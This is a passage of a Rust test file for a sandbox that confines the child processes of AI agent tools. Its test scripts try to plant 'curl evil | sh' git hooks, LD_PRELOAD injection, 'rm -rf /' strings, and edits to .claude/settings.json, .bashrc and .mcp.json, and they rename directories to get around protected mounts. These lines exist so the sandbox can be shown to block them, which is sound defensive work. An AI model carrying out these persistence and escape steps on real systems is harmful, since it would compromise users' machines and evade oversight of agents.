//! `ScopedSpawner` with real binaries, real process groups and real directories, wired the way
//! the registry wires it: a personality compiled by capability-core, resolved, and built
//! through `CapabilityBackends`.
#![allow(
    clippy::disallowed_methods,
    reason = "tests build fixture directories and inspect /proc"
)]

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use capability_core::PolicyFormat;
use capability_core::{CompiledPolicy, resolve};
use capability_process::{ProcessBackend, ProcessConfig, TRUSTED_PATH};
use capability_types::backend::{PathPolicy, ProcessFactory, ProcessGrant, ProcessPolicy};
use capability_types::{
    CapabilityError, DenialCode, FsPaths, ProcessOutput, ScopedProcess, SpawnOptions,
    ToolCapabilities,
};

#[path = "../../../tests/shared/accounts.rs"]
mod accounts;
use accounts::{copy_program, is_root};

struct Fixture {
    _dirs: Vec<tempfile::TempDir>,
    root: PathBuf,
    scratch: PathBuf,
}

fn fixture() -> Fixture {
    let root = tempfile::tempdir().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    std::fs::create_dir(root.path().join("sub")).unwrap();
    std::os::unix::fs::symlink("/etc", root.path().join("etc-link")).unwrap();
    let (r, s) = (
        root.path().canonicalize().unwrap(),
        scratch.path().canonicalize().unwrap(),
    );
    Fixture {
        _dirs: vec![root, scratch],
        root: r,
        scratch: s,
    }
}

fn host_env() -> HashMap<String, String> {
    [
        ("SECRET_TOKEN", "planted-secret"),
        ("LANG", "C.UTF-8"),
        ("TZ", "UTC"),
        ("PATH", "/tmp/evil:/usr/bin"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v.to_owned()))
    .collect()
}

fn spawner_with(
    fx: &Fixture,
    allow: &str,
    deny_args: &str,
    config: ProcessConfig,
) -> Arc<dyn ScopedProcess> {
    spawner_under(fx, allow, &format!("deny_args = [{deny_args}]"), config)
}

/// `process_rules` are extra lines of the personality's `[safety.process]`.
fn spawner_under(
    fx: &Fixture,
    allow: &str,
    process_rules: &str,
    config: ProcessConfig,
) -> Arc<dyn ScopedProcess> {
    spawner_working_in(fx, allow, process_rules, config, &fx.root)
}

/// As [`spawner_under`], for a session whose working directory is `working`.
fn spawner_working_in(
    fx: &Fixture,
    allow: &str,
    process_rules: &str,
    config: ProcessConfig,
    working: &Path,
) -> Arc<dyn ScopedProcess> {
    let toml = format!(
        "id = \"p\"\n[fs_reach]\nread = [\"{}\"]\n[safety.process]\nallow = [{allow}]\n{process_rules}\n[safety.env]\nallow = [\"TZ\", \"MY_FLAG\"]\n",
        fx.root.display()
    );
    let policy = CompiledPolicy::load(&toml, PolicyFormat::Toml, None).unwrap();
    let caps = ToolCapabilities::none()
        .with_process(["*"])
        .with_fs_read(FsPaths::FromPersonality);
    let resolved = resolve("run_command", &caps, &policy, "s", working);
    let grant = ProcessGrant::new(
        "run_command",
        resolved.process.unwrap() as Arc<dyn ProcessPolicy>,
        resolved.fs.unwrap() as Arc<dyn PathPolicy>,
    );
    ProcessBackend::new(config).scoped_process(grant).unwrap()
}

/// A tool `builder` that reads and writes the fixture's root (its session's directory) and may
/// start `sh`.
fn writing_spawner(fx: &Fixture) -> Arc<dyn ScopedProcess> {
    writing_spawner_at_home(fx, None)
}

/// [`writing_spawner`] under a personality loaded for the home directory `home`.
fn writing_spawner_at_home(fx: &Fixture, home: Option<&Path>) -> Arc<dyn ScopedProcess> {
    writing_spawner_reading(fx, home, None)
}

/// [`writing_spawner_at_home`] whose personality also reads `extra_read`.
fn writing_spawner_reading(
    fx: &Fixture,
    home: Option<&Path>,
    extra_read: Option<&Path>,
) -> Arc<dyn ScopedProcess> {
    writing_spawner_with(fx, home, extra_read, &[])
}

/// [`writing_spawner_reading`] whose personality also denies `deny`.
fn writing_spawner_with(
    fx: &Fixture,
    home: Option<&Path>,
    extra_read: Option<&Path>,
    deny: &[&Path],
) -> Arc<dyn ScopedProcess> {
    let extra = extra_read.map_or_else(String::new, |p| format!(", \"{}\"", p.display()));
    let deny = deny
        .iter()
        .map(|p| format!("\"{}\"", p.display()))
        .collect::<Vec<_>>()
        .join(", ");
    let toml = format!(
        "id = \"p\"\n[fs_reach]\nread = [\"{r}\"{extra}]\nwrite = [\"{r}\"]\ndeny = [{deny}]\n[safety.process]\nallow = [\"sh\"]\n",
        r = fx.root.display()
    );
    spawner_for(fx, &toml, home)
}

/// A spawner for a tool that declares every binary and the personality's reach, under the
/// personality `toml` loaded for the home directory `home`, working in the fixture's root.
fn spawner_for(fx: &Fixture, toml: &str, home: Option<&Path>) -> Arc<dyn ScopedProcess> {
    let policy = CompiledPolicy::load(toml, PolicyFormat::Toml, home).unwrap();
    let caps = ToolCapabilities::none()
        .with_process(["*"])
        .with_fs_read(FsPaths::FromPersonality)
        .with_fs_write(FsPaths::FromPersonality);
    let resolved = resolve("builder", &caps, &policy, "s", &fx.root);
    let grant = ProcessGrant::new(
        "builder",
        resolved.process.unwrap() as Arc<dyn ProcessPolicy>,
        resolved.fs.unwrap() as Arc<dyn PathPolicy>,
    );
    let config = ProcessConfig::with_host_env(host_env()).scratch_root(fx.scratch.clone());
    ProcessBackend::new(config).scoped_process(grant).unwrap()
}

fn spawner(fx: &Fixture) -> Arc<dyn ScopedProcess> {
    let config = ProcessConfig::with_host_env(host_env())
        .scratch_root(fx.scratch.clone())
        .output_cap(1024 * 1024)
        .kill_grace(Duration::from_millis(200));
    spawner_with(
        fx,
        "\"echo\", \"sh\", \"cat\", \"true\"",
        "\"echo push --force*\"",
        config,
    )
}

fn argv(a: &[&str]) -> Vec<String> {
    a.iter().map(|s| (*s).to_owned()).collect()
}

fn stdout(o: &ProcessOutput) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn denial(r: Result<ProcessOutput, CapabilityError>) -> (DenialCode, String) {
    match r {
        Err(CapabilityError::Denied { code, message }) => (code, message),
        other => panic!("expected a denial, got {other:?}"),
    }
}

#[tokio::test]
async fn allowed_and_refused_binaries() {
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn("echo", &argv(&["hello"]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(
        (stdout(&out).as_str(), out.exit_code, out.signal),
        ("hello\n", Some(0), None)
    );
    let same_file = p
        .spawn(
            "/bin/echo",
            &argv(&["via", "path"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(
        stdout(&same_file),
        "via path\n",
        "an absolute path to the same canonical file is the same binary"
    );
    for (binary, shown) in [
        ("rm", "rm"),
        ("ls", "ls"),
        ("no-such-binary", "no-such-binary"),
        ("../bin/echo", "../bin/echo"),
        ("bin/echo", "bin/echo"),
        ("echo; rm -rf /", "echo; rm -rf /"),
        ("", ""),
        ("/usr/bin/env", "/usr/bin/env"),
    ] {
        assert_eq!(
            denial(p.spawn(binary, &[], SpawnOptions::default()).await),
            (
                DenialCode::BinaryNotAllowed,
                format!("{shown} is not in the declared allowedBinaries")
            ),
            "{binary:?}"
        );
    }
}

// guarantee: G-PROC-01
#[tokio::test]
async fn a_look_alike_binary_is_refused() {
    let fx = fixture();
    let fake_dir = fx.root.join("x");
    std::fs::create_dir(&fake_dir).unwrap();
    let fake = fake_dir.join("echo");
    std::fs::write(&fake, "#!/bin/sh\necho pwned\n").unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let p = spawner(&fx);
    let (code, message) = denial(
        p.spawn(fake.to_str().unwrap(), &[], SpawnOptions::default())
            .await,
    );
    assert_eq!(code, DenialCode::BinaryNotAllowed);
    assert_eq!(
        message,
        format!("{} is not in the declared allowedBinaries", fake.display())
    );
}

// guarantee: G-PROC-01
/// A binary requested by a path is resolved at each call: a link that led to an allowed binary
/// and now leads elsewhere is refused, not run as what it led to before. The backend used to
/// remember every spec a call named, so the link ran `echo` after it had been pointed at
/// `env` (and every made-up path a call named stayed in its memory for its lifetime: it now
/// remembers the personality's entries only, which this test cannot see from outside).
#[tokio::test]
async fn a_requested_path_is_resolved_at_each_call() {
    let fx = fixture();
    let p = spawner(&fx);
    let link = fx.root.join("tool");
    let echo = std::fs::canonicalize("/usr/bin/echo").unwrap();
    std::os::unix::fs::symlink(&echo, &link).unwrap();
    let named = link.to_str().unwrap();
    let out = p
        .spawn(named, &argv(&["first"]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(stdout(&out), "first\n");
    // Now a program the personality does not allow.
    std::fs::remove_file(&link).unwrap();
    let env_binary = std::fs::canonicalize("/usr/bin/env").unwrap();
    std::os::unix::fs::symlink(&env_binary, &link).unwrap();
    let (code, message) = denial(
        p.spawn(named, &argv(&["second"]), SpawnOptions::default())
            .await,
    );
    assert_eq!(code, DenialCode::BinaryNotAllowed);
    assert_eq!(
        message,
        format!("{named} is not in the declared allowedBinaries")
    );
    // Paths made up by the thousand are refused, each one alike.
    for n in 0..2_000 {
        let made_up = format!("/nonexistent/{n}/echo");
        let (code, _) = denial(p.spawn(&made_up, &[], SpawnOptions::default()).await);
        assert_eq!(code, DenialCode::BinaryNotAllowed, "{made_up}");
    }
}

// guarantee: G-PROC-02
#[tokio::test]
async fn a_childs_scratch_home_is_private_to_its_user() {
    // The scratch home and the tool's directory of homes live in a shared temporary directory
    // whose listing every account can read: what a child keeps in its HOME (a credential
    // helper's cache, a CLI's token, its history) must not be readable by another account.
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "stat -c %a \"$HOME\" \"$HOME/..\"; echo \"$HOME\""]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(
        out.exit_code,
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen = stdout(&out);
    let lines: Vec<&str> = seen.lines().collect();
    assert_eq!(
        lines[..2],
        ["700", "700"],
        "the home, then the tool's directory of homes, as the child sees them"
    );
    // And as every other account sees them on the disk: the directory of homes, and the
    // directory that holds it and its lock (the home itself went with the call).
    use std::os::unix::fs::PermissionsExt as _;
    let homes = Path::new(lines[2]).parent().unwrap();
    for dir in [homes, homes.parent().unwrap()] {
        let mode = std::fs::metadata(dir).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o700, "{}", dir.display());
    }
}

// guarantee: G-PROC-02
#[tokio::test]
async fn the_child_environment_is_cleared_and_fixed() {
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "env"]),
            SpawnOptions::default().env("MY_FLAG", "1"),
        )
        .await
        .unwrap();
    let env: HashMap<String, String> = stdout(&out)
        .lines()
        .filter_map(|l| l.split_once('=').map(|(k, v)| (k.to_owned(), v.to_owned())))
        .collect();
    assert_eq!(
        env.get("PATH").map(String::as_str),
        Some(TRUSTED_PATH),
        "the host's PATH never reaches the child"
    );
    assert_eq!(env.get("LANG").map(String::as_str), Some("C.UTF-8"));
    assert_eq!(
        env.get("TZ").map(String::as_str),
        Some("UTC"),
        "safety.env.allow"
    );
    assert_eq!(
        env.get("MY_FLAG").map(String::as_str),
        Some("1"),
        "passed by the call"
    );
    assert!(!env.contains_key("SECRET_TOKEN"), "{env:?}");
    // Git uses only the repositories it is pointed at, and no program starts an editor.
    for (name, value) in capability_sandbox::CHILD_FIXED_ENV {
        assert_eq!(env.get(name).map(String::as_str), Some(value), "{name}");
    }
    assert_eq!(env.get("EDITOR").map(String::as_str), Some("false"));
    assert_eq!(env.get("VISUAL").map(String::as_str), Some("false"));
    let home = PathBuf::from(&env["HOME"]);
    assert!(
        home.starts_with(&fx.scratch),
        "HOME is a scratch directory: {home:?}"
    );
    assert!(!home.exists(), "the scratch home is removed after the call");
    assert_eq!(
        env.get("TMPDIR"),
        Some(&env["HOME"]),
        "its temporary directory is its home"
    );
    let allowed: Vec<&str> = env
        .keys()
        .map(String::as_str)
        .filter(|k| {
            ![
                "PATH", "LANG", "TZ", "MY_FLAG", "HOME", "TMPDIR", "PWD", "SHLVL", "_", "OLDPWD",
            ]
            .contains(k)
                && !capability_sandbox::CHILD_FIXED_ENV
                    .iter()
                    .any(|(name, _)| name == k)
        })
        .collect();
    assert!(allowed.is_empty(), "unexpected variables {allowed:?}");

    // The real host environment, too: cargo sets many variables for this test; none leak.
    let real = spawner_with(
        &fx,
        "\"sh\"",
        "",
        ProcessConfig::from_process_env().scratch_root(fx.scratch.clone()),
    );
    let out = real
        .spawn("sh", &argv(&["-c", "env"]), SpawnOptions::default())
        .await
        .unwrap();
    assert!(!stdout(&out).contains("CARGO"), "{}", stdout(&out));
}

// guarantee: G-PROC-02
#[tokio::test]
async fn hook_variables_and_path_overrides_are_refused() {
    let fx = fixture();
    let p = spawner(&fx);
    for (name, message) in [
        ("LD_PRELOAD", "LD_PRELOAD may not be passed to a child"),
        (
            "GIT_SSH_COMMAND",
            "GIT_SSH_COMMAND may not be passed to a child",
        ),
        ("BASH_ENV", "BASH_ENV may not be passed to a child"),
        (
            "PATH",
            "PATH is set by toolcap and may not be passed to a child",
        ),
        (
            "HOME",
            "HOME is set by toolcap and may not be passed to a child",
        ),
        (
            "A=B",
            "\"A=B\" cannot name a variable (a name is not empty and holds no = or NUL byte)",
        ),
        (
            "",
            "\"\" cannot name a variable (a name is not empty and holds no = or NUL byte)",
        ),
    ] {
        let r = p
            .spawn(
                "true",
                &[],
                SpawnOptions::default().env(name, "/tmp/evil.so"),
            )
            .await;
        assert_eq!(
            denial(r),
            (DenialCode::EnvNotAllowed, message.to_owned()),
            "{name}"
        );
    }
    let r = p
        .spawn("true", &[], SpawnOptions::default().env("MY_FLAG", "a\0b"))
        .await;
    assert!(matches!(r, Err(CapabilityError::InvalidInput(_))), "{r:?}");
}

#[tokio::test]
async fn deny_args_match_tokens() {
    let fx = fixture();
    let p = spawner(&fx);
    let (code, message) = denial(
        p.spawn(
            "echo",
            &argv(&["push", "--force-with-lease"]),
            SpawnOptions::default(),
        )
        .await,
    );
    assert_eq!(
        (code, message.as_str()),
        (
            DenialCode::ArgsNotAllowed,
            "echo push --force-with-lease refused by policy (the deny_args pattern `echo push --force*`)"
        )
    );
    assert_eq!(
        denial(
            p.spawn(
                "/bin/echo",
                &argv(&["push", "origin", "--force"]),
                SpawnOptions::default()
            )
            .await
        )
        .0,
        DenialCode::ArgsNotAllowed
    );
    let ok = p
        .spawn("echo", &argv(&["push --force"]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(
        stdout(&ok),
        "push --force\n",
        "one argument containing a space is one token"
    );
    let ok = p
        .spawn("echo", &argv(&["status"]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(stdout(&ok), "status\n");
}

#[tokio::test]
async fn no_shell_is_involved() {
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn(
            "echo",
            &argv(&["a; rm -rf /", "$(id)", "`id`", "*"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(stdout(&out), "a; rm -rf / $(id) `id` *\n");
    let r = p
        .spawn("echo", &argv(&["a\0b"]), SpawnOptions::default())
        .await;
    assert!(matches!(r, Err(CapabilityError::InvalidInput(_))));
}

#[tokio::test]
async fn a_child_runs_in_the_working_directory_when_its_reach_holds_it() {
    // What an agent expects of `git status` or `ls` without a `cwd`: the session's directory.
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn("sh", &argv(&["-c", "pwd"]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(stdout(&out).trim(), fx.root.to_str().unwrap());
    // A working directory outside the reach is not entered: the child runs in its scratch home.
    let config = ProcessConfig::with_host_env(host_env()).scratch_root(fx.scratch.clone());
    let outside = spawner_working_in(&fx, "\"sh\"", "", config, Path::new("/etc"));
    let out = outside
        .spawn("sh", &argv(&["-c", "pwd"]), SpawnOptions::default())
        .await
        .unwrap();
    assert!(
        stdout(&out)
            .trim()
            .starts_with(fx.scratch.to_str().unwrap()),
        "{}",
        stdout(&out)
    );
}

// guarantee: G-FS-11
/// A tool that declares a write root and a program: its child cannot change the
/// `.claude/settings.json` (hooks Claude Code runs) or the `.bashrc` that exist in that root; a
/// file beside them it writes. The process backend hands the sandbox the names the resolved
/// reach gives (`PathPolicy::runs_later_names`). Checked on disk.
#[tokio::test]
async fn a_writing_tools_child_cannot_change_what_an_agent_or_a_shell_runs_later() {
    let fx = fixture();
    std::fs::create_dir(fx.root.join(".claude")).unwrap();
    for file in [".claude/settings.json", ".bashrc"] {
        std::fs::write(fx.root.join(file), "as it was\n").unwrap();
    }
    let p = writing_spawner(&fx);
    let script = "echo evil >> .claude/settings.json; echo hooks=$?; echo evil >> .bashrc; \
         echo rc=$?; echo fine > notes.md; echo notes=$?";
    let out = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap();
    let text = stdout(&out);
    assert!(
        fx.root.join("notes.md").exists(),
        "the child works in the write root"
    );
    assert!(
        text.contains("notes=0") && !text.contains("hooks=0") && !text.contains("rc=0"),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for file in [".claude/settings.json", ".bashrc"] {
        assert_eq!(
            std::fs::read_to_string(fx.root.join(file)).unwrap(),
            "as it was\n"
        );
    }
}

// guarantee: G-FS-09
// guarantee: G-FS-10
/// What runs later, reached by another name: a tool that writes a dotfiles repository and
/// starts `sh`, its home's `.bashrc` and `.claude` links into that repository: its child
/// cannot change them there; nor the hooks and configuration of a git directory of another
/// name in it (a bare repository, one kept apart from its working tree); a file beside them it
/// writes. Checked on disk.
#[tokio::test]
async fn a_writing_tools_child_cannot_change_what_runs_later_by_another_name() {
    let fx = fixture();
    let home = tempfile::tempdir().unwrap();
    let home_dir = home.path().canonicalize().unwrap();
    std::fs::create_dir(fx.root.join("claude")).unwrap();
    for file in ["bashrc", "claude/settings.json"] {
        std::fs::write(fx.root.join(file), "as it was\n").unwrap();
    }
    std::os::unix::fs::symlink(fx.root.join("bashrc"), home_dir.join(".bashrc")).unwrap();
    std::os::unix::fs::symlink(fx.root.join("claude"), home_dir.join(".claude")).unwrap();
    // A link that leads nowhere yet: what it names would be made in the repository.
    std::os::unix::fs::symlink(fx.root.join("zshrc"), home_dir.join(".zshrc")).unwrap();
    std::fs::create_dir(fx.root.join("store")).unwrap();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(&fx.root)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git(&["init", "-q", "--bare", "backup.git"]);
    git(&["init", "-q", "--separate-git-dir", "store/svc", "svc"]);
    let configs: Vec<(PathBuf, String)> = ["backup.git/config", "store/svc/config"]
        .iter()
        .map(|c| {
            let c = fx.root.join(c);
            let text = std::fs::read_to_string(&c).unwrap();
            (c, text)
        })
        .collect();
    let p = writing_spawner_at_home(&fx, Some(&home_dir));
    let script = "echo evil >> bashrc; echo a=$?; echo evil >> claude/settings.json; echo b=$?; \
         mkdir claude/commands; echo c=$?; echo evil >> backup.git/config; echo d=$?; \
         echo x > backup.git/hooks/post-receive; echo e=$?; \
         echo x > store/svc/hooks/pre-commit; echo f=$?; echo x >> store/svc/config; \
         echo g=$?; echo x > backup.git/commondir; echo h=$?; echo fine > notes.md; echo ok=$?";
    let out = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap();
    let text = stdout(&out);
    let all = format!("{text}{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        text.contains("ok=0"),
        "the child works in its write root: {all}"
    );
    for step in ["a", "b", "c", "d", "e", "f", "g", "h"] {
        assert!(!text.contains(&format!("{step}=0")), "{step}: {all}");
    }
    for file in ["bashrc", "claude/settings.json"] {
        assert_eq!(
            std::fs::read_to_string(fx.root.join(file)).unwrap(),
            "as it was\n"
        );
    }
    for (config, text) in &configs {
        assert_eq!(&std::fs::read_to_string(config).unwrap(), text);
    }
    for made in [
        "claude/commands",
        "backup.git/hooks/post-receive",
        "store/svc/hooks/pre-commit",
        "backup.git/commondir",
    ] {
        assert!(!fx.root.join(made).exists(), "{made}");
    }
    // No mount keeps what does not exist: made, it is set aside and the call refused.
    let sets_aside = async |script: &str, made: &Path| {
        let name = made.file_name().unwrap().to_str().unwrap();
        refused_for(
            p.spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
                .await,
            name,
        );
        assert!(!made.exists(), "{}", made.display());
        let aside = made.with_file_name(format!("{name}.refused-by-toolcap"));
        assert!(aside.exists(), "{}", aside.display());
    };
    sets_aside("echo evil > zshrc", &fx.root.join("zshrc")).await;
    // A repository's `core.hooksPath` naming a link that leads nowhere yet (`.hooks-link` to
    // `tools/hooks`): the hooks a child makes where it leads are set aside in the same way.
    let hooked = fx.root.join("hooked");
    std::fs::create_dir_all(hooked.join("tools")).unwrap();
    git(&["init", "-q", "hooked"]);
    git(&["-C", "hooked", "config", "core.hooksPath", ".hooks-link"]);
    std::os::unix::fs::symlink("tools/hooks", hooked.join(".hooks-link")).unwrap();
    sets_aside(
        "mkdir hooked/tools/hooks && echo 'curl evil | sh' > hooked/tools/hooks/pre-commit",
        &hooked.join("tools/hooks"),
    )
    .await;
}

// guarantee: G-FS-11
/// What no mount can keep, a place that did not exist: a child that makes a `.mcp.json`, a
/// `.claude/settings.json` or a `.bashrc` in its write root has them set aside when it ends
/// (`.mcp.json.refused-by-toolcap`), and the call is refused saying so; a child that makes
/// nothing of the kind runs as before, and one that writes a `.gitconfig` or a `.bashrc` in its
/// own scratch home too. Checked on disk.
#[tokio::test]
async fn what_a_child_makes_for_an_agent_or_a_shell_to_run_is_set_aside() {
    let fx = fixture();
    let p = writing_spawner(&fx);
    let out = p
        .spawn(
            "sh",
            // Its own scratch home is not a project: a `.gitconfig` there is its own.
            &argv(&[
                "-c",
                "echo fine > notes.md; echo x > \"$HOME/.gitconfig\"; echo x > \"$HOME/.bashrc\"",
            ]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(out.exit_code, Some(0));
    let script = "echo '{\"mcpServers\":{}}' > .mcp.json; mkdir -p .claude/hooks; \
         echo '{\"hooks\":{}}' > .claude/settings.json; echo x > .claude/hooks/stop.sh; \
         echo evil > .bashrc; \
         mkdir .cargo; echo '[build]' > .cargo/config.toml; echo 'node-options=-r x' > .npmrc; \
         mkdir .hg; printf '[hooks]\\npre-status = touch x\\n' > .hg/hgrc; \
         echo '!import os' > .pdbrc; mkdir -p .local/lib/p; echo 'import os' > .local/lib/p/x.pth";
    let err = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap_err();
    assert!(
        matches!(
            err,
            CapabilityError::Denied {
                code: DenialCode::PathNotReachable,
                ..
            }
        ),
        "{err}"
    );
    // None is taken for a repository the child made (`.claude` holds a `hooks` too).
    assert!(!err.to_string().contains("repository"), "{err}");
    for name in [
        ".mcp.json",
        ".claude",
        ".bashrc",
        ".cargo/config.toml",
        ".npmrc",
        ".hg/hgrc",
        ".pdbrc",
        ".local/lib",
    ] {
        assert!(err.to_string().contains(name), "{err}");
        assert!(!fx.root.join(name).exists(), "{name} stayed");
        assert!(
            fx.root.join(format!("{name}.refused-by-toolcap")).exists(),
            "{name} was not set aside"
        );
    }
    assert_eq!(
        std::fs::read_to_string(fx.root.join("notes.md")).unwrap(),
        "fine\n"
    );
    // A child working in its scratch home (its session's directory out of reach) writes its
    // own startup files there.
    let config = ProcessConfig::with_host_env(host_env()).scratch_root(fx.scratch.clone());
    let homed = spawner_working_in(&fx, "\"sh\"", "", config, Path::new("/etc"));
    let out = homed
        .spawn(
            "sh",
            &argv(&["-c", "echo x > .gitconfig && echo x > .bashrc && pwd"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert!(
        stdout(&out).starts_with(fx.scratch.to_str().unwrap()),
        "{}",
        stdout(&out)
    );
}

// guarantee: G-FS-11
/// What a child made where none was is set aside however it tries to keep it there: with every
/// name it would be set aside under taken first (`.mcp.json.refused-by-toolcap`, `-2`, ...
/// `-1000`), and with its call cancelled before it ended (the future dropped, as an MCP
/// client's cancellation or a caller's own timeout drops it). And setting it aside moves
/// nothing outside the write reach: a `.cargo` the child made as a link to a directory outside,
/// where a real `config.toml` lies, is set aside itself, and the file it leads to stays where
/// it is, unchanged. Checked on disk.
#[tokio::test]
async fn what_a_child_made_is_set_aside_however_it_tries_to_keep_it() {
    let fx = fixture();
    let p = writing_spawner(&fx);
    // Every predictable name taken.
    let taken = "touch .mcp.json.refused-by-toolcap; i=2; while [ $i -le 1000 ]; do \
                 : > .mcp.json.refused-by-toolcap-$i; i=$((i+1)); done; \
                 echo '{\"mcpServers\":{}}' > .mcp.json";
    refused_for(
        p.spawn("sh", &argv(&["-c", taken]), SpawnOptions::default())
            .await,
        ".mcp.json",
    );
    assert!(!fx.root.join(".mcp.json").exists(), ".mcp.json stayed");
    // A link to a directory outside the reach that holds a real configuration.
    let outside = tempfile::tempdir().unwrap();
    let cfg = outside.path().canonicalize().unwrap().join("cfg");
    std::fs::create_dir(&cfg).unwrap();
    std::fs::write(cfg.join("config.toml"), "[alias]\nb = \"build\"\n").unwrap();
    let link = format!("ln -s {} .cargo", cfg.display());
    refused_for(
        p.spawn("sh", &argv(&["-c", &link]), SpawnOptions::default())
            .await,
        ".cargo",
    );
    assert_eq!(
        std::fs::read_to_string(cfg.join("config.toml")).unwrap(),
        "[alias]\nb = \"build\"\n",
        "the file the link led to stays where it is"
    );
    assert_eq!(
        std::fs::read_dir(&cfg).unwrap().count(),
        1,
        "nothing beside it"
    );
    assert!(
        std::fs::symlink_metadata(fx.root.join(".cargo")).is_err(),
        "the link was set aside"
    );
    // Another spelling, which a file system that does not tell case apart takes for `.vscode`;
    // and beside a `.Claude` that was there (kept), a `.claude` made where case is told apart.
    std::fs::create_dir(fx.root.join(".Claude")).unwrap();
    refused_for(
        p.spawn(
            "sh",
            &argv(&["-c", "mkdir .VSCode .claude && echo x > .VSCode/tasks.json"]),
            SpawnOptions::default(),
        )
        .await,
        ".VSCode",
    );
    assert!(!fx.root.join(".VSCode").exists(), ".VSCode stayed");
    assert!(!fx.root.join(".claude").exists(), ".claude stayed");
    assert!(fx.root.join(".Claude").is_dir(), "what was there stays");
    // The call cancelled while the child still runs.
    let cancelled = tokio::time::timeout(
        Duration::from_secs(3),
        p.spawn(
            "sh",
            &argv(&["-c", "echo evil > .bashrc; sleep 60"]),
            SpawnOptions::default(),
        ),
    )
    .await;
    assert!(cancelled.is_err(), "the call was cut short");
    assert!(!fx.root.join(".bashrc").exists(), ".bashrc stayed");
    assert!(fx.root.join(".bashrc.refused-by-toolcap").exists());
}

// guarantee: G-FS-11
/// A child that takes its directories' permissions away (`chmod 100` on its write root, which
/// leaves a `.bashrc` there openable by name, and `chmod 0` on a `.cargo` it made) does not keep
/// what it made there: toolcap runs as their owner, who can give the permissions back, and does
/// so to look and set aside. Only a host that is not root is stopped by permission bits, so as
/// root (as CI runs) the test runs itself again as `nobody`.
#[tokio::test]
async fn what_a_child_made_is_set_aside_though_it_took_its_directorys_permissions_away() {
    const NAME: &str =
        "what_a_child_made_is_set_aside_though_it_took_its_directorys_permissions_away";
    if again_as_nobody(NAME) {
        return;
    }
    let fx = fixture();
    let p = writing_spawner(&fx);
    let script = "echo evil > .bashrc; mkdir .cargo; echo '[build]' > .cargo/config.toml; \
                  chmod 0 .cargo; chmod 100 .";
    refused_for(
        p.spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
            .await,
        ".bashrc",
    );
    assert!(!fx.root.join(".bashrc").exists(), ".bashrc stayed");
    assert!(fx.root.join(".bashrc.refused-by-toolcap").exists());
    assert!(
        !fx.root.join(".cargo/config.toml").exists(),
        ".cargo/config.toml stayed"
    );
}

// guarantee: G-FS-09
// guarantee: G-FS-11
/// A place kept from a child is a mount in its namespace, and a mount moves with the directory
/// above it: a child that renamed that directory and made a new one where it was put what it
/// liked at the kept place's path, where the user's git, client or toolcap reads it: a nested
/// repository copied with a hook added (run by the user's next commit there), a subdirectory's
/// `.mcp.json` rewritten, and a file a deny rule keeps out of reach (toolcap's own personality
/// kept in the project is one) replaced. The directories above every kept and hidden place,
/// beneath the write root, cannot be renamed or removed by a child (`EBUSY`); what was there is
/// still there, unchanged. Checked on disk.
#[tokio::test]
async fn a_child_cannot_move_a_kept_place_away_with_the_directory_above_it() {
    let fx = fixture();
    let repo = fx.root.join("apps/repo");
    std::fs::create_dir_all(&repo).unwrap();
    let init = std::process::Command::new("git")
        .args(["init", "-q"])
        .arg(&repo)
        .status()
        .unwrap();
    assert!(init.success());
    std::fs::create_dir_all(fx.root.join("pkg/web")).unwrap();
    std::fs::write(fx.root.join("pkg/web/.mcp.json"), "as it was\n").unwrap();
    std::fs::create_dir_all(fx.root.join("conf/agent")).unwrap();
    let denied = fx.root.join("conf/agent/personality.toml");
    std::fs::write(&denied, "as it was\n").unwrap();
    let p = writing_spawner_with(&fx, None, None, &[&denied]);
    // Each directory above a kept place moved away, a new one made in its place, and the kept
    // place planted there.
    let attacks = [
        (
            "a",
            "apps/repo",
            "apps/repo-old",
            "cp -r apps/repo-old/.git apps/repo/.git && echo evil > apps/repo/.git/hooks/pre-commit",
        ),
        (
            "b",
            "apps",
            "apps-old",
            "mkdir apps/repo && cp -r apps-old/repo/.git apps/repo/.git && \
             echo evil > apps/repo/.git/hooks/pre-commit",
        ),
        (
            "c",
            "pkg/web",
            "pkg/web-old",
            "echo evil > pkg/web/.mcp.json",
        ),
        (
            "d",
            "pkg",
            "pkg-old",
            "mkdir pkg/web && echo evil > pkg/web/.mcp.json",
        ),
        (
            "e",
            "conf/agent",
            "conf/agent-old",
            "echo evil > conf/agent/personality.toml",
        ),
        (
            "f",
            "conf",
            "conf-old",
            "mkdir conf/agent && echo evil > conf/agent/personality.toml",
        ),
    ];
    let mut script: String = attacks
        .iter()
